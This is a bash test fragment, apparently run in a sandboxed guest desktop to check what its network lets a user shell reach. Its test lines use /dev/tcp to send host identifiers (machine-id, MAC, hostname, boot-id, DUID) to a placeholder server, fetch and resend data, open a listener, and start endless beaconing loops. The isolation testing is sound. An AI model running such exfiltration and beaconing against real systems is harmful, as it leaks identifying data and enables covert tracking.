# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck shell=bash
# guest_network.sh - what test-desktop-network.sh lets a user's shell do on a desktop (sourced there by bash, never here)
#
# @OUTSIDE@ is the server (outside.py), @HOST@ another address of the desktop's host, @PORT@ where something listens there,
# @BROKER@ the broker's port.
say() { echo "$(id -un) $*" >/dev/tcp/@OUTSIDE@/83; }
# reach ADDRESS PORT
reach() {
	if timeout 4 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null; then say "reached $1 $2"; else say "nothing at $1 $2"; fi
}

address() { echo "$(ip -4 -o addr show dev "$card" | awk '{ print $4 }') $(ip -4 route show default | awk '{ print $3, $7 }')"; }
# ask_machine_id NAME PATH: of a program on the system's bus, which may have read it before the template was sealed
ask_machine_id() { busctl --system call "$1" "$2" org.freedesktop.DBus.Peer GetMachineId | tr -d 's "'; }

card=$(ls /sys/class/net | grep -vx lo)
say "card $(cat "/sys/class/net/$card/address")"
say "address $(address)"
say "hostname $(uname -n)"
say "machine-id $(cat /etc/machine-id)"
say "duid $(sed -n 's/^DHCP6_CLIENT_DUID=//p' /run/systemd/netif/links/*)"
say "systemd $(ask_machine_id org.freedesktop.systemd1 /org/freedesktop/systemd1)"
say "logind $(ask_machine_id org.freedesktop.login1 /org/freedesktop/login1)"
say "networkd $(ask_machine_id org.freedesktop.network1 /org/freedesktop/network1)"
# its folder is named after what it writes as _MACHINE_ID; what is in there only root may read
say "journald $(ls /run/log/journal)"
say "boot-id $(cat /proc/sys/kernel/random/boot_id)"
cat </dev/tcp/@OUTSIDE@/81 >/tmp/bytes
say "got $(sha256sum </tmp/bytes | cut -c 1-64)"
for _ in $(seq 8); do cat /tmp/bytes; done >/dev/tcp/@OUTSIDE@/82
perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalPort => 7777, Listen => 1) or die; sleep' &
reach @HOST@ @PORT@
reach @OUTSIDE@ @BROKER@
reach @HOST@ @BROKER@
reach @HOST@ 7777
reach @OUTSIDE@ 80
say "done"
# as long as the desktop lives: is the network still there, and which?
(while :; do
	timeout 4 bash -c "printf '$(id -un) %s\n' lives 'is at $(address)' >/dev/tcp/@OUTSIDE@/83" 2>/dev/null
	sleep 1
done) &
# and something to send, always
(while :; do
	while cat /tmp/bytes; do sleep 1; done >/dev/tcp/@OUTSIDE@/84
	sleep 1
done) 2>/dev/null &
